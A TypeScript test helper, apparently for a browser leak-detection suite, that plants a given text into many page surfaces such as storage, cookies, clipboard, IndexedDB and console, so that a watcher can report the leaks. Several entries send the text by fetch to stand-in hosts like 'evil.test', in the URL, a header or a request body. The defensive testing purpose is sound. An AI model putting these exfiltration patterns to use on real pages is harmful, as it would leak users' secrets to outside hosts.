import type { WatchedTab } from './page.ts';

/** Functions that leak a text, by the surface that must report it; each runs in the page. */
export const leaks: Readonly<Record<string, (text: string) => unknown>> = {
  screen: (text) =>
    (globalThis as unknown as { term: { write(s: string): void } }).term.write(text),
  document: (text) => document.body.setAttribute('data-hint', text),
  title: (text) => {
    document.title = text;
  },
  selection: (text) => {
    const note = document.body.appendChild(document.createElement('p'));
    note.textContent = text;
    getSelection()?.selectAllChildren(note);
  },
  field: (text) => {
    document.body.appendChild(document.createElement('textarea')).value = text;
  },
  address: (text) => history.replaceState(null, '', `#${encodeURIComponent(text)}`),
  navigation: (text) => {
    history.pushState(null, '', `#${text}`);
    history.pushState(null, '', '#');
  },
  message: (text) => new BroadcastChannel('keysh').postMessage({ text }),
  'history state': (text) => history.replaceState({ text }, ''),
  localStorage: (text) => localStorage.setItem('keysh-note', text),
  sessionStorage: (text) => sessionStorage.setItem('keysh-draft', text),
  cookies: (text) => {
    // biome-ignore lint/suspicious/noDocumentCookie: the leak is meant.
    document.cookie = `note=${text}`;
  },
  performance: (text) => performance.mark(text),
  caches: async (text) => (await caches.open('c')).put(`/?${text}`, new Response('')),
  accessibility: (text) => {
    document.body.setAttribute('aria-label', text);
  },
  clipboard: (text) => navigator.clipboard.writeText(text),
  'document: a font': (text) => {
    (
      globalThis as unknown as { term: { options: { fontFamily: string } } }
    ).term.options.fontFamily = text;
  },
  'field: what is composed': (text) => {
    const { term } = globalThis as unknown as { term: { textarea: HTMLTextAreaElement } };
    term.textarea.value = text;
  },
  'window name': (text) => {
    window.name = text;
  },
  IndexedDB: (text) => putRecord('bots', { system: text, k: 'kept' }),
  'IndexedDB: a line of the history': (text) => putRecord('history', `chat ${text}`),
  'IndexedDB: a text file': (text) => putRecord('files', { bytes: new Blob([`key ${text}\n`]) }),
  'IndexedDB: the provider of a key': (text) => putRecord('bots', { k: '', keyProvider: text }),
  // biome-ignore lint/suspicious/noConsole: the leak is meant.
  console: (text) => console.warn({ text }),
  error: (text) => {
    setTimeout(() => {
      throw new Error(text);
    });
  },
  log: (text) => fetch(`missing?${text}`).catch(() => undefined),
  violation: (text) => fetch(`https://elsewhere.test/?${text}`).catch(() => undefined),
  'request address': (text) => fetch(`https://evil.test/?${text}`).catch(() => undefined),
  'request header': (text) =>
    fetch('https://evil.test/', { headers: { 'x-note': text } }).catch(() => undefined),
  'request body': (text) =>
    fetch('https://api.groq.com/', { method: 'POST', body: text }).catch(() => undefined),
};

/** Runs in the page: stores a record in a store of that name, in a separate database. */
function putRecord(store: string, record: unknown): Promise<void> {
  return new Promise((resolve) => {
    const opening = indexedDB.open(`leak ${store}`, 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore(store);
    opening.onsuccess = () => {
      const change = opening.result.transaction(store, 'readwrite');
      change.objectStore(store).put(record, 'record');
      change.oncomplete = () => {
        opening.result.close();
        resolve();
      };
    };
  });
}

/** Leaks the text to the named surface of the page, and gives the browser time to report it. */
export async function plantLeak({ page }: WatchedTab, sink: string, text: string): Promise<void> {
  const leak = leaks[sink];
  if (!leak) throw new Error(`no leak for ${sink}`);
  await page.evaluate(`{ ${putRecord}; (${leak})(${JSON.stringify(text)}); }`);
  await page.waitForTimeout(50);
}

/** Replaces the record in the separate database. */
export async function plantRecord(
  { page }: WatchedTab,
  store: string,
  record: object,
): Promise<void> {
  await page.evaluate(`{ ${putRecord}; putRecord('${store}', ${JSON.stringify(record)}); }`);
}
